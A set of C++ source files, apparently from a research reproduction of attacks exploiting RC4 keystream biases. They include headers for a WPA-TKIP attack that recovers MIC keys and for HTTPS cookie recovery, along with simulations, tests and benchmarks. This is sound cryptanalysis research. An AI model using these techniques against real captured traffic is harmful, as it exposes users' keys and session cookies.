                            size_t interleave);

  std::string dir_;
};

}  // namespace rc4b::store

#endif  // SRC_STORE_GRID_CACHE_H_
