#include <cmath>
#include "src/tkip/key_mixing.h"

#include <set>

#include <gtest/gtest.h>

#include "src/common/bytes.h"
#include "src/common/rng.h"

namespace rc4b {
namespace {

std::array<uint8_t, 16> RandomTk(Xoshiro256& rng) {
  std::array<uint8_t, 16> tk;
  rng.Fill(tk);
  return tk;
}

std::array<uint8_t, 6> RandomTa(Xoshiro256& rng) {
  std::array<uint8_t, 6> ta;
  rng.Fill(ta);
  return ta;
}

TEST(KeyMixingTest, PublicKeyBytesFormula) {
  // Sect. 2.2: K0 = TSC1, K1 = (TSC1 | 0x20) & 0x7f, K2 = TSC0.
  const auto pub = TkipPublicKeyBytes(0xab12);
  EXPECT_EQ(pub[0], 0xab);
  EXPECT_EQ(pub[1], (0xab | 0x20) & 0x7f);
  EXPECT_EQ(pub[2], 0x12);
}

TEST(KeyMixingTest, MixedKeyStartsWithPublicBytes) {
  Xoshiro256 rng(1);
  for (int trial = 0; trial < 64; ++trial) {
    const auto tk = RandomTk(rng);
    const auto ta = RandomTa(rng);
    const uint64_t tsc = rng() & 0xffffffffffffull;
    const auto key = TkipMixKey(tk, ta, tsc);
    const auto pub = TkipPublicKeyBytes(static_cast<uint16_t>(tsc));
    EXPECT_EQ(key[0], pub[0]);
    EXPECT_EQ(key[1], pub[1]);
    EXPECT_EQ(key[2], pub[2]);
  }
}

TEST(KeyMixingTest, WeakKeyAvoidanceBitPattern) {
  // K1 always has bit 5 set and bit 7 clear — the FMS weak-key countermeasure.
  Xoshiro256 rng(2);
  for (int trial = 0; trial < 256; ++trial) {
    const auto pub = TkipPublicKeyBytes(static_cast<uint16_t>(rng()));
    EXPECT_NE(pub[1] & 0x20, 0);
    EXPECT_EQ(pub[1] & 0x80, 0);
  }
}

TEST(KeyMixingTest, Deterministic) {
  Xoshiro256 rng(3);
  const auto tk = RandomTk(rng);
  const auto ta = RandomTa(rng);
  EXPECT_EQ(TkipMixKey(tk, ta, 0x123456789abc), TkipMixKey(tk, ta, 0x123456789abc));
}

TEST(KeyMixingTest, TscChangesKey) {
  Xoshiro256 rng(4);
  const auto tk = RandomTk(rng);
  const auto ta = RandomTa(rng);
  const auto k1 = TkipMixKey(tk, ta, 1);
  const auto k2 = TkipMixKey(tk, ta, 2);
  EXPECT_NE(k1, k2);
}

TEST(KeyMixingTest, TemporalKeyChangesKey) {
  Xoshiro256 rng(5);
  const auto ta = RandomTa(rng);
  const auto k1 = TkipMixKey(RandomTk(rng), ta, 7);
  const auto k2 = TkipMixKey(RandomTk(rng), ta, 7);
  EXPECT_NE(k1, k2);
}

TEST(KeyMixingTest, TransmitterAddressChangesKey) {
  Xoshiro256 rng(6);
  const auto tk = RandomTk(rng);
  const auto k1 = TkipMixKey(tk, RandomTa(rng), 7);
  const auto k2 = TkipMixKey(tk, RandomTa(rng), 7);
  EXPECT_NE(k1, k2);
}

TEST(KeyMixingTest, Phase1OnlyDependsOnUpperTscBits) {
  Xoshiro256 rng(7);
  const auto tk = RandomTk(rng);
  const auto ta = RandomTa(rng);
  // Same IV32, different IV16: phase 1 output identical.
  EXPECT_EQ(TkipPhase1(tk, ta, 0xdeadbeef), TkipPhase1(tk, ta, 0xdeadbeef));
  const auto p1 = TkipPhase1(tk, ta, 0xdeadbeef);
  EXPECT_NE(TkipPhase2(p1, tk, 0x0001), TkipPhase2(p1, tk, 0x0002));
}

TEST(KeyMixingTest, KeyTailLooksUniformAcrossTscs) {
  // The non-public key bytes should not repeat across nearby TSCs: collect
  // byte-4..15 tails for 4096 consecutive TSCs and require all distinct.
  Xoshiro256 rng(8);
  const auto tk = RandomTk(rng);
  const auto ta = RandomTa(rng);
  std::set<std::string> tails;
  for (uint64_t tsc = 0; tsc < 4096; ++tsc) {
    const auto key = TkipMixKey(tk, ta, tsc);
    tails.insert(ToHex(std::span<const uint8_t>(key.data() + 4, 12)));
  }
  EXPECT_EQ(tails.size(), 4096u);
}

TEST(KeyMixingTest, KeyTailByteDistributionRoughlyUniform) {
  Xoshiro256 rng(9);
  const auto tk = RandomTk(rng);
  const auto ta = RandomTa(rng);
  std::array<int, 256> counts{};
  const int keys = 8192;
  for (int tsc = 0; tsc < keys; ++tsc) {
    const auto key = TkipMixKey(tk, ta, static_cast<uint64_t>(tsc));
    for (int b = 4; b < 16; ++b) {
      ++counts[key[b]];
    }
  }
  const double expected = keys * 12.0 / 256.0;
  for (int v = 0; v < 256; ++v) {
    EXPECT_NEAR(counts[v], expected, 7 * std::sqrt(expected)) << "value " << v;
  }
}

}  // namespace
}  // namespace rc4b
