// The unified plaintext-recovery loop (docs/recovery.md).
//
// Both headline attacks of the paper are instances of one algorithm:
//   1. accumulate ciphertext statistics,
//   2. turn them into per-position likelihood tables (a LikelihoodSource),
//   3. enumerate plaintext candidates in decreasing likelihood (Algorithm 1
//      lazily for single-byte tables, Algorithm 2 for double-byte tables),
//   4. test each candidate against a verification predicate — the CRC-32
//      relation between MIC and ICV for TKIP (Sect. 5.3), the server oracle
//      for HTTPS cookies (Sect. 6.2) — until one is accepted or the
//      candidate budget runs out.
// RecoveryEngine owns steps 3-4; src/tkip/attack and src/tls/cookie_attack
// are thin wrappers that supply their domain predicate, and every scenario
// in src/recovery/scenario.h runs through this loop.
#ifndef SRC_RECOVERY_ENGINE_H_
#define SRC_RECOVERY_ENGINE_H_

#include <cstdint>
#include <functional>
#include <span>

#include "src/core/candidates.h"
#include "src/recovery/likelihood_source.h"

namespace rc4b::recovery {

// Accepts or rejects a candidate plaintext: the CRC/ICV consistency check, a
// (simulated) server query, or any other oracle. Returning true ends the
// traversal with this candidate.
using VerifyPredicate = std::function<bool(const Bytes&)>;

struct RecoveryOptions {
  // Candidate-traversal budget (the paper uses ~2^30 for TKIP, 2^23 for
  // cookies). The traversal also stops early if the candidate space is
  // exhausted.
  uint64_t max_candidates = uint64_t{1} << 20;
  // Optional ground truth for evaluation: when non-empty, the result's
  // `correct` flag marks whether the accepted candidate equals it.
  Bytes truth;
};

struct RecoveryResult {
  bool found = false;    // a candidate was accepted by the predicate
  bool correct = false;  // ... and it equals the configured truth
  // Candidates drawn from the enumerator: the accepted candidate's 1-based
  // position on success, or the total number tried on failure.
  uint64_t candidates_tried = 0;
  Bytes plaintext;               // the accepted candidate
  double log_likelihood = 0.0;   // its score
};

// Known boundary bytes around the unknown plaintext in the double-byte
// (Algorithm 2) pipeline: m1 precedes it, m_last follows it.
struct PairBoundary {
  uint8_t m1 = 0;
  uint8_t m_last = 0;
};

class RecoveryEngine {
 public:
  explicit RecoveryEngine(RecoveryOptions options)
      : options_(std::move(options)) {}

  const RecoveryOptions& options() const { return options_; }

  // Single-byte pipeline: lazy best-first traversal of Algorithm 1's
  // ordering (LazyCandidateEnumerator), testing each candidate against the
  // predicate. Empty tables yield an empty result.
  RecoveryResult RecoverSingle(const SingleByteTables& tables,
                               const VerifyPredicate& verify) const;
  RecoveryResult RecoverSingle(SingleByteLikelihoodSource& source,
                               const VerifyPredicate& verify) const;

  // Double-byte pipeline: Algorithm 2's N-best list (optionally restricted
  // to `alphabet`), brute-forced against the predicate in order. Fewer than
  // two transition tables yield an empty result.
  RecoveryResult RecoverDouble(const DoubleByteTables& transitions,
                               const PairBoundary& boundary,
                               std::span<const uint8_t> alphabet,
                               const VerifyPredicate& verify) const;
  RecoveryResult RecoverDouble(DoubleByteLikelihoodSource& source,
                               const PairBoundary& boundary,
                               std::span<const uint8_t> alphabet,
                               const VerifyPredicate& verify) const;

 private:
  RecoveryResult Accept(const Candidate& candidate, uint64_t tried) const;

  RecoveryOptions options_;
};

}  // namespace rc4b::recovery

#endif  // SRC_RECOVERY_ENGINE_H_
