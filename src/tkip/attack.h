// The WPA-TKIP attack of Sect. 5: decrypt the injected packet's unknown
// MIC + ICV bytes from captured ciphertext statistics, prune candidates by
// the CRC-32 relation between MIC and ICV, and derive the Michael MIC key
// from the decrypted packet.
//
// Pipeline:
//   1. Per-position single-byte log-likelihoods from per-TSC1 keystream
//      models, multiplied over TSC classes (Paterson-style, Sect. 5.1).
//   2. Candidate traversal in decreasing likelihood (lazy enumeration of
//      Algorithm 1's ordering) pruning candidates whose ICV does not match
//      the CRC of the known MSDU plus candidate MIC (Sect. 5.3).
//   3. Michael key recovery from the decrypted MIC (invertible Michael).
//
// Steps 1-2 are instances of the unified recovery pipeline: step 1 is the
// TkipTscLikelihoodSource adapter and step 2 runs on the RecoveryEngine
// with the CRC relation as its verification predicate (docs/recovery.md);
// this module keeps the TKIP-specific glue and the Michael inversion.
#ifndef SRC_TKIP_ATTACK_H_
#define SRC_TKIP_ATTACK_H_

#include <cstdint>
#include <optional>

#include "src/core/candidates.h"
#include "src/crypto/michael.h"
#include "src/tkip/injection.h"
#include "src/tkip/tsc_model.h"

namespace rc4b {

// Per-position log-likelihood tables for the unknown trailer bytes, computed
// from captured ciphertext statistics and the attacker's per-TSC1 model:
//   lambda_pos(mu) = sum_tsc1 sum_c counts[tsc1][pos][c] * log p[tsc1][pos][c ^ mu].
// Positions covered: [stats.first_position(), stats.last_position()]. The
// stats and model position ranges must match; on a mismatch the function
// returns empty tables instead of reading out of bounds.
SingleByteTables TkipTrailerLikelihoods(const TkipCaptureStats& stats,
                                        const TkipTscModel& model);

struct TkipAttackResult {
  bool found = false;            // a candidate with a consistent ICV was found
  bool correct = false;          // ... and it equals the true trailer
  // Candidates drawn from the enumerator: the accepted candidate's 1-based
  // position on success, or the total number tried on failure.
  uint64_t candidates_tried = 0;
  Bytes trailer;                 // recovered MIC || ICV
  MichaelKey mic_key;            // derived from the recovered MIC
};

// Runs the candidate traversal. `known_msdu` is the plaintext MSDU (headers +
// payload, assumed known per Sect. 5.3), `likelihoods` are the 12 trailer
// tables (anything else returns an empty result), `max_candidates` bounds the
// traversal (paper: ~2^30); it also stops early if the enumerator exhausts
// the candidate space. `true_trailer` (optional, for evaluation) marks
// whether the accepted candidate is actually correct.
TkipAttackResult RecoverTkipTrailer(std::span<const uint8_t> known_msdu,
                                    const SingleByteTables& likelihoods,
                                    uint64_t max_candidates,
                                    std::span<const uint8_t> true_trailer,
                                    const TkipPeer& peer);

// True iff `trailer` (MIC || ICV) is internally consistent with `msdu`:
// CRC-32(msdu || mic) == icv. This is the pruning predicate; it does not need
// any key material. A trailer of the wrong size is never consistent.
bool TkipTrailerConsistent(std::span<const uint8_t> msdu,
                           std::span<const uint8_t> trailer);

}  // namespace rc4b

#endif  // SRC_TKIP_ATTACK_H_
