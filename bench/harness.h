// Shared helpers for the experiment benchmarks (one binary per paper
// table/figure; see DESIGN.md's experiment index and EXPERIMENTS.md for
// recorded results). These harnesses print self-describing tables to stdout;
// scale knobs default to laptop-friendly values and every binary accepts
// --keys / --sims style flags to approach paper-scale fidelity.
#ifndef BENCH_HARNESS_H_
#define BENCH_HARNESS_H_

#include <array>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <utility>
#include <vector>

#include <sys/stat.h>
#include <unistd.h>

#include "src/common/io.h"

namespace rc4b::bench {

inline void PrintHeader(const std::string& experiment, const std::string& paper_ref,
                        const std::string& note) {
  std::printf("==============================================================\n");
  std::printf("%s\n", experiment.c_str());
  std::printf("paper reference : %s\n", paper_ref.c_str());
  if (!note.empty()) {
    std::printf("%s\n", note.c_str());
  }
  std::printf("==============================================================\n");
}

// Machine-readable perf trajectory: each bench binary writes one
// BENCH_<name>.json per run — into $RC4B_BENCH_JSON_DIR when set, else
// bench/trajectory/ when that directory exists under the cwd (a repo
// checkout), else next to its stdout table — so CI can upload the numbers
// as artifacts and the trajectory can be diffed across commits. The format is one flat
// JSON object: bench name, git revision, wall seconds since construction,
// then every metric added by the binary (ks/s, trials/s, threads, ...).
class JsonTrajectory {
 public:
  explicit JsonTrajectory(std::string bench_name)
      : bench_name_(std::move(bench_name)),
        start_(std::chrono::steady_clock::now()) {}

  void Add(const std::string& key, double value) {
    std::array<char, 64> buffer;
    std::snprintf(buffer.data(), buffer.size(), "%.6g", value);
    entries_.emplace_back(key, buffer.data());
  }

  void Add(const std::string& key, uint64_t value) {
    entries_.emplace_back(key, std::to_string(value));
  }

  void Add(const std::string& key, const std::string& value) {
    std::string quoted;
    quoted.push_back('"');
    quoted.append(Escaped(value));
    quoted.push_back('"');
    entries_.emplace_back(key, quoted);
  }

  // The shared engine-scale knobs, spelled identically across benches so the
  // trajectory can be compared like-for-like: a point measured with a
  // different lockstep width or batch size is the same math on a different
  // schedule (bit-exact results), but not the same perf configuration.
  // Both sides of the interleave resolution are recorded — "I asked for 12"
  // and "the kernel ran 8 lanes" are different facts, and the perf gate
  // compares points by the resolved value (bench/trajectory/README.md).
  void RecordScale(size_t interleave_requested, size_t interleave,
                   uint64_t batch_keys) {
    Add("interleave_requested", static_cast<uint64_t>(interleave_requested));
    Add("interleave", static_cast<uint64_t>(interleave));
    Add("batch_keys", batch_keys);
  }

  // The dispatch decision behind the numbers: kernel name plus the CPU
  // features the host offers (CpuFeatureString()). A trajectory point is
  // only comparable to points with the same kernel on the same hardware.
  void RecordKernel(const std::string& kernel, const std::string& cpu_features) {
    Add("kernel", kernel);
    Add("cpu_features", cpu_features);
  }

  // Writes BENCH_<name>.json atomically (temp file + rename: a nightly-CI
  // artifact scrape never sees a torn file); returns false (after a warning
  // on stderr) if the file cannot be written so benches never fail on a
  // read-only cwd.
  bool Write() const {
    std::string dir;
    if (const char* env = std::getenv("RC4B_BENCH_JSON_DIR")) {
      dir = std::string(env) + "/";
    } else {
      // Default into bench/trajectory/ when running from a repo checkout
      // (the directory exists there), so ad-hoc runs don't strew
      // BENCH_*.json files across the repo root; any other cwd keeps the
      // write-next-to-stdout behavior.
      struct ::stat st {};
      if (::stat("bench/trajectory", &st) == 0 && S_ISDIR(st.st_mode)) {
        dir = "bench/trajectory/";
      }
    }
    const std::string path = dir + "BENCH_" + bench_name_ + ".json";
    const double wall_s =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - start_)
            .count();
    std::array<char, 32> wall_text;
    std::snprintf(wall_text.data(), wall_text.size(), "%.3f", wall_s);
    std::string out = "{\n  \"bench\": \"" + Escaped(bench_name_) +
                      "\",\n  \"git_rev\": \"" + Escaped(GitRevision()) +
                      "\",\n  \"host\": \"" + Escaped(Hostname()) +
                      "\",\n  \"wall_s\": " + wall_text.data();
    for (const auto& [key, value] : entries_) {
      out += ",\n  \"" + Escaped(key) + "\": " + value;
    }
    out += "\n}\n";
    if (const IoStatus status = WriteFileAtomic(path, out); !status.ok()) {
      std::fprintf(stderr, "warning: %s\n", status.message().c_str());
      return false;
    }
    std::printf("\nwrote %s\n", path.c_str());
    return true;
  }

  // Machine identity for cross-host trajectory comparisons (a ks/s number is
  // only comparable to numbers from the same hardware).
  static std::string Hostname() {
    std::array<char, 256> buffer{};
    if (::gethostname(buffer.data(), buffer.size() - 1) != 0) {
      return "unknown";
    }
    return buffer.data();
  }

  // Current commit: $GITHUB_SHA when CI exports it, otherwise `git
  // rev-parse`, otherwise "unknown" (never fails).
  static std::string GitRevision() {
    if (const char* sha = std::getenv("GITHUB_SHA")) {
      return sha;
    }
    std::string rev;
    if (std::FILE* pipe = popen("git rev-parse --short=12 HEAD 2>/dev/null", "r")) {
      std::array<char, 64> buffer{};
      if (std::fgets(buffer.data(), buffer.size(), pipe) != nullptr) {
        rev = buffer.data();
        while (!rev.empty() && (rev.back() == '\n' || rev.back() == '\r')) {
          rev.pop_back();
        }
      }
      pclose(pipe);
    }
    return rev.empty() ? "unknown" : rev;
  }

 private:
  static std::string Escaped(const std::string& raw) {
    std::string out;
    for (const char c : raw) {
      if (c == '"' || c == '\\') {
        out.push_back('\\');
      }
      out.push_back(c);
    }
    return out;
  }

  std::string bench_name_;
  std::chrono::steady_clock::time_point start_;
  std::vector<std::pair<std::string, std::string>> entries_;
};

// Significance annotation for a measured vs. expected deviation.
inline const char* Stars(double z) {
  const double az = std::fabs(z);
  if (az >= 5.0) {
    return "*****";
  }
  if (az >= 4.0) {
    return "****";
  }
  if (az >= 3.0) {
    return "***";
  }
  if (az >= 2.0) {
    return "**";
  }
  if (az >= 1.0) {
    return "*";
  }
  return "";
}

}  // namespace rc4b::bench

#endif  // BENCH_HARNESS_H_
