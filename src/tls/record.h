// TLS record protocol with the RC4-SHA1 cipher suite (Sect. 2.3 / Fig. 3):
// MAC-then-encrypt, HMAC-SHA1 over sequence number + header + payload, the
// whole payload||MAC encrypted by one long-lived RC4 stream per direction
// (none of the initial keystream bytes are discarded).
#ifndef SRC_TLS_RECORD_H_
#define SRC_TLS_RECORD_H_

#include <cstdint>
#include <optional>
#include <span>

#include "src/common/bytes.h"
#include "src/crypto/hmac.h"
#include "src/rc4/rc4.h"

namespace rc4b {

inline constexpr uint8_t kTlsApplicationData = 23;
inline constexpr uint16_t kTlsVersion12 = 0x0303;
inline constexpr size_t kTlsRecordHeaderSize = 5;

// One direction of an established RC4-SHA1 connection.
class TlsWriteState {
 public:
  // mac_key: 20 bytes; rc4_key: 16 bytes (both derived from the master secret
  // in real TLS; modelled as uniformly random, as the paper does).
  TlsWriteState(std::span<const uint8_t> mac_key, std::span<const uint8_t> rc4_key);

  // Seals `payload` into a full record: header || RC4(payload || HMAC).
  Bytes Seal(std::span<const uint8_t> payload,
             uint8_t content_type = kTlsApplicationData);

  uint64_t sequence_number() const { return sequence_number_; }

 private:
  Bytes mac_key_;
  Rc4 rc4_;
  uint64_t sequence_number_ = 0;
};

class TlsReadState {
 public:
  TlsReadState(std::span<const uint8_t> mac_key, std::span<const uint8_t> rc4_key);

  // Opens a full record; returns the payload or nullopt on MAC failure.
  std::optional<Bytes> Open(std::span<const uint8_t> record);

 private:
  Bytes mac_key_;
  Rc4 rc4_;
  uint64_t sequence_number_ = 0;
};

}  // namespace rc4b

#endif  // SRC_TLS_RECORD_H_
