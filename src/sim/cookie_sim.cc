#include "src/sim/cookie_sim.h"

#include <algorithm>

#include "src/biases/mantin.h"
#include "src/core/likelihood.h"
#include "src/core/rank.h"
#include "src/core/synthetic.h"
#include "src/sim/runner.h"
#include "src/tls/cookie_attack.h"

namespace rc4b::sim {

std::vector<double> AbsabAlphasForPair(size_t pair_index, size_t cookie_length,
                                       uint64_t max_gap) {
  std::vector<double> alphas;
  const uint64_t after_min =
      cookie_length - 1 - std::min(pair_index, cookie_length - 1);
  for (uint64_t g = after_min; g <= max_gap; ++g) {
    alphas.push_back(AbsabAlpha(g));
  }
  for (uint64_t g = pair_index + 1; g <= max_gap; ++g) {
    alphas.push_back(AbsabAlpha(g));
  }
  return alphas;
}

CookieSimContext::CookieSimContext(const CookieSimOptions& options)
    : options_(options),
      alphabet_(options.alphabet.empty() ? CookieAlphabet64()
                                         : options.alphabet) {
  for (size_t t = 0; t < pair_count(); ++t) {
    // The pair's first byte is output at 1-based position alignment + t.
    const uint8_t counter = PrgaCounterAtPosition(options_.alignment + t);
    fm_models_.push_back(FmSparseModel(counter, options_.fm_r));
    fm_tables_.push_back(FmDigraphTable(counter, options_.fm_r));
    alphas_.push_back(
        AbsabAlphasForPair(t, options_.cookie_length, options_.max_gap));
  }
}

DoubleByteTables SampleCookieTransitions(const CookieSimContext& context,
                                         std::span<const uint8_t> cookie,
                                         uint64_t ciphertexts,
                                         Xoshiro256& rng) {
  const CookieSimOptions& options = context.options();
  DoubleByteTables transitions(context.pair_count());
  for (size_t t = 0; t < context.pair_count(); ++t) {
    const uint8_t p1 = t == 0 ? options.m1 : cookie[t - 1];
    const uint8_t p2 = t == options.cookie_length ? options.m_last : cookie[t];
    const auto counts = SampleCiphertextPairCounts(context.fm_table(t), p1, p2,
                                                   ciphertexts, rng);
    transitions[t] =
        DoubleByteLogLikelihoodSparse(counts, ciphertexts, context.fm_model(t));
    const uint16_t true_pair = static_cast<uint16_t>(p1 << 8 | p2);
    const auto absab =
        SampleAbsabScoreTable(context.alphas(t), ciphertexts, true_pair, rng);
    CombineInPlace(transitions[t], absab);
  }
  return transitions;
}

CookieSimResult RunCookieTrial(const CookieSimContext& context,
                               uint64_t ciphertexts, Xoshiro256& rng) {
  const CookieSimOptions& options = context.options();
  const auto& alphabet = context.alphabet();
  Bytes truth(options.cookie_length);
  for (auto& b : truth) {
    b = alphabet[rng.Below(alphabet.size())];
  }

  SampledCookieLikelihoodSource source(context, truth, ciphertexts, rng);
  const auto transitions = source.Tables();
  const auto bracket =
      MarkovRank(transitions, options.m1, options.m_last, truth, alphabet);
  const Bytes best = MarkovBest(transitions, options.m1, options.m_last,
                                options.cookie_length, alphabet);

  CookieSimResult result;
  result.truth_rank = bracket.estimate();
  result.rank_within_budget = result.truth_rank < options.attempt_budget;
  result.best_is_truth = best == truth;
  return result;
}

CookieSimAggregate RunCookieSimulations(const CookieSimContext& context,
                                        uint64_t ciphertexts) {
  const CookieSimOptions& options = context.options();
  // Derive this checkpoint's seed stream from (seed, ciphertexts) so a
  // Fig. 10 sweep reuses one base seed without correlating checkpoints.
  const auto per_trial = RunTrials<CookieSimResult>(
      TrialRunnerOptions{options.trials, options.workers,
                         TrialSeed(options.seed, ciphertexts)},
      [&](uint64_t, Xoshiro256& rng) {
        return RunCookieTrial(context, ciphertexts, rng);
      });

  CookieSimAggregate aggregate;
  aggregate.trials = options.trials;
  // Fold in trial order: the aggregate is a pure function of (seed, trials),
  // independent of how trials were sharded.
  for (const CookieSimResult& result : per_trial) {
    aggregate.budget_wins += result.rank_within_budget ? 1 : 0;
    aggregate.best_wins += result.best_is_truth ? 1 : 0;
    aggregate.ranks.push_back(result.truth_rank);
  }
  return aggregate;
}

}  // namespace rc4b::sim
