// Regression tests for crafted (not merely bit-flipped) grid files.
//
// These inputs were found by the tests/fuzz/fuzz_grid_file harness: header
// length fields are attacker-controlled u64s, and unchecked arithmetic on
// them used to wrap past the bounds checks and drive std::span::subspan out
// of the mapped file (or std::vector::reserve into std::length_error). A
// reader of untrusted files must reject every such input loudly instead.
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "src/crypto/crc32.h"
#include "src/store/grid_file.h"

namespace rc4b::store {
namespace {

std::string TempPath(const char* name) {
  return std::string(::testing::TempDir()) + "/" + name;
}

void PutU64(std::string& out, uint64_t v) {
  char bytes[sizeof(v)];
  std::memcpy(bytes, &v, sizeof(v));
  out.append(bytes, sizeof(v));
}

uint32_t CrcOf(const std::string& section) {
  return Crc32(std::span<const uint8_t>(
      reinterpret_cast<const uint8_t*>(section.data()), section.size()));
}

// Header + meta + padding + cells, with every length field caller-chosen.
std::string BuildFile(uint64_t meta_bytes, const std::string& meta_section,
                      uint64_t cells_offset, uint64_t cells_bytes,
                      size_t file_size) {
  std::string out;
  PutU64(out, kGridFileMagic);
  PutU64(out, kGridFormatVersion);
  PutU64(out, meta_bytes);
  PutU64(out, CrcOf(meta_section));
  PutU64(out, cells_offset);
  PutU64(out, cells_bytes);
  PutU64(out, CrcOf(std::string()));  // cells CRC for an empty cells section
  out += meta_section;
  out.resize(file_size, '\0');
  return out;
}

void ExpectRejected(const std::string& path, const std::string& contents,
                    const char* needle) {
  ASSERT_TRUE(WriteFileAtomic(path, contents).ok());
  GridFileView view;
  IoStatus status = view.Open(path);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find(needle), std::string::npos)
      << status.message();

  StoredGrid loaded;
  status = ReadGridFile(path, &loaded);
  EXPECT_FALSE(status.ok());
  std::remove(path.c_str());
}

// A meta_bytes near 2^64 used to wrap the `cells_offset < header +
// meta_bytes` check (56 + (2^64 - 16) == 40) and then subspan(56, 2^64 - 16)
// read far past the mapped file while checksumming the "meta section".
// (Exactly 2^64 - 1 is std::dynamic_extent, which subspan silently clamps —
// any other wrapping value walks off the mapping.)
TEST(GridFileCorruptTest, HugeMetaBytesIsRejectedNotOverread) {
  const std::string contents =
      BuildFile(UINT64_MAX - 15, std::string(), /*cells_offset=*/4096,
                /*cells_bytes=*/0, /*file_size=*/4096);
  ExpectRejected(TempPath("huge-meta.grid"), contents, "meta section");
}

// A meta_bytes that wraps to a small value the other way: header + meta_bytes
// stays representable but exceeds the file, which must be a loud truncation
// error, never a subspan past the end.
TEST(GridFileCorruptTest, MetaBytesPastEndIsRejected) {
  const std::string contents =
      BuildFile(/*meta_bytes=*/1 << 20, std::string(), /*cells_offset=*/4096,
                /*cells_bytes=*/0, /*file_size=*/4096);
  ExpectRejected(TempPath("meta-past-end.grid"), contents, "meta section");
}

// pair_count = 2^61 makes (10 + 2 * pair_count) * 8 wrap to exactly 80 — the
// size of a pairless meta section — so the "expected size" check used to
// pass and pairs.reserve(2^61) threw std::length_error out of the parser
// (and, had the allocation succeeded, the loop would have read 2^61 pairs
// from an 80-byte section).
TEST(GridFileCorruptTest, HugePairCountIsRejectedNotOverread) {
  std::string meta;
  PutU64(meta, 3);  // GridKind::kPair
  PutU64(meta, 11);           // seed
  PutU64(meta, 0);            // key_begin
  PutU64(meta, 512);          // key_end
  PutU64(meta, 2);            // rows
  PutU64(meta, 0);            // drop
  PutU64(meta, 0);            // interleave
  PutU64(meta, 0);            // bytes_per_key
  PutU64(meta, 0);            // samples
  PutU64(meta, uint64_t{1} << 61);  // pair_count
  ASSERT_EQ(meta.size(), 80u);
  const std::string contents = BuildFile(meta.size(), meta,
                                         /*cells_offset=*/136,
                                         /*cells_bytes=*/0, /*file_size=*/136);
  ExpectRejected(TempPath("huge-pairs.grid"), contents, "pair");
}

// The boring variant (pair_count large but arithmetic in range) must keep
// its precise pre-existing diagnostic.
TEST(GridFileCorruptTest, OversizedPairCountKeepsSizeDiagnostic) {
  std::string meta;
  PutU64(meta, 3);
  for (int field = 0; field < 8; ++field) {
    PutU64(meta, 1);
  }
  PutU64(meta, 1000);  // pair_count: needs 16080 bytes, section has 80
  const std::string contents = BuildFile(meta.size(), meta,
                                         /*cells_offset=*/136,
                                         /*cells_bytes=*/0, /*file_size=*/136);
  ExpectRejected(TempPath("big-pairs.grid"), contents, "pair");
}

}  // namespace
}  // namespace rc4b::store
