// bias_hunter: a miniature version of the paper's Sect. 3 pipeline.
// Generates keystream statistics over random RC4 keys, then runs the
// hypothesis-test battery (chi-squared uniformity per position, Fuchs-Kenett
// M-test for pair dependence, per-cell proportion tests, Holm correction)
// and prints every bias it can certify at alpha = 1e-4.
//
// Build & run:  ./build/examples/bias_hunter [--keys N] [--positions P]
#include <cstdio>

#include "src/biases/bias_scan.h"
#include "src/biases/dataset.h"
#include "src/common/flags.h"

using namespace rc4b;

int main(int argc, char** argv) {
  const ScaleFlagSpec scale{
      .count_flag = "keys",
      .count_default = "0x800000",
      .count_help = "random 128-bit RC4 keys to sample (2^23)",
      .seed_default = "1337",
      .seed_help = "dataset seed"};
  FlagSet flags("Empirical RC4 bias hunt (Sect. 3 of the paper, scaled down)");
  DefineScaleFlags(flags, scale)
      .Define("positions", "8", "initial keystream positions to scan");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  DatasetOptions options;
  options.keys = keys;
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;
  const size_t positions = flags.GetUint("positions");

  std::printf("sampling %llu keys, positions 1..%zu...\n",
              static_cast<unsigned long long>(options.keys), positions + 1);
  const auto digraphs = GenerateConsecutiveDataset(positions, options);

  // Single-byte uniformity scan (aggregating the digraph grid, formula 6).
  std::printf("\n-- single-byte uniformity (chi-squared + Holm) --\n");
  SingleByteGrid singles(positions);
  for (size_t pos = 0; pos < positions; ++pos) {
    for (int v = 0; v < 256; ++v) {
      uint64_t marginal = 0;
      for (int y = 0; y < 256; ++y) {
        marginal += digraphs.Count(pos, static_cast<uint8_t>(v),
                                   static_cast<uint8_t>(y));
      }
      singles.Add(pos, static_cast<uint8_t>(v), marginal);
    }
  }
  singles.AddKeys(digraphs.keys());
  for (const auto& result : ScanSingleBytes(singles)) {
    std::printf("  Z%-3zu chi2 = %9.1f  p_holm = %-10.3g %s\n", result.position,
                result.statistic, result.p_adjusted,
                result.biased ? "<-- BIASED" : "");
  }

  // Pair dependence scan.
  std::printf("\n-- consecutive-pair dependence (M-test + Holm) --\n");
  const auto dependence = ScanPairDependence(digraphs);
  for (const auto& result : dependence) {
    std::printf("  (Z%zu,Z%zu) M = %5.2f  p_holm = %-10.3g %s\n", result.row + 1,
                result.row + 2, result.m_statistic, result.p_adjusted,
                result.dependent ? "<-- DEPENDENT" : "");
  }

  // For dependent pairs, pinpoint the biased cells.
  std::printf("\n-- certified biased value pairs (proportion tests + Holm) --\n");
  bool any = false;
  for (const auto& result : dependence) {
    if (!result.dependent) {
      continue;
    }
    for (const auto& cell : FindBiasedCells(digraphs, result.row)) {
      std::printf("  Pr[Z%zu=%3d, Z%zu=%3d] = %.3e  (indep: %.3e, rel. bias "
                  "%+6.1f%%, p=%.2g)\n",
                  result.row + 1, cell.v1, result.row + 2, cell.v2,
                  cell.pair_probability, cell.expected_probability,
                  100.0 * cell.relative_bias, cell.p_value);
      any = true;
    }
  }
  if (!any) {
    std::printf("  (none at this sample size -- try --keys 0x4000000)\n");
  }
  std::printf("\nAt paper scale (2^44-2^47 keys on a cluster) this pipeline is "
              "what surfaced the Table 2 / Fig. 5 biases.\n");
  return 0;
}
