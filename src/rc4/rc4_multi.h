// Interleaved multi-stream RC4: M independent ciphers advanced in lockstep.
//
// The scalar Rc4::Next() is one long dependency chain (every byte needs the
// swapped permutation of the previous byte), so a superscalar core spends
// most of its issue slots waiting on loads. Running M independent streams
// round-robin — update i, then stream 0's j/swap/output, stream 1's, ... —
// gives the core M independent chains to overlap, for both the PRGA and the
